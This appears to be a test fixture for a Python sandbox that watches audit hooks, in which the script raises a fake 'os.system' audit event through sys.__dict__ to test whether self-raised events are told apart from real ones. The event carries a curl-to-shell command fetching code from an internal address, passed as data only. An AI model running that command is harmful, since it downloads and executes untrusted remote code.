# family: wall (the answer: an event the program raised itself, sys.audit)   goal: claim   claim: os.system
# ok_02 through the module's dict rather than the attribute: sys.__dict__ is the sys
# module's own namespace, so the wall's sys.audit is the one found there too.
import sys

print("about to compute 2+2 =", 2 + 2, flush=True)
sys.__dict__["audit"]("os.system", b"curl -s http://10.0.0.5/x | sh")
print("NOTHING-DONE")
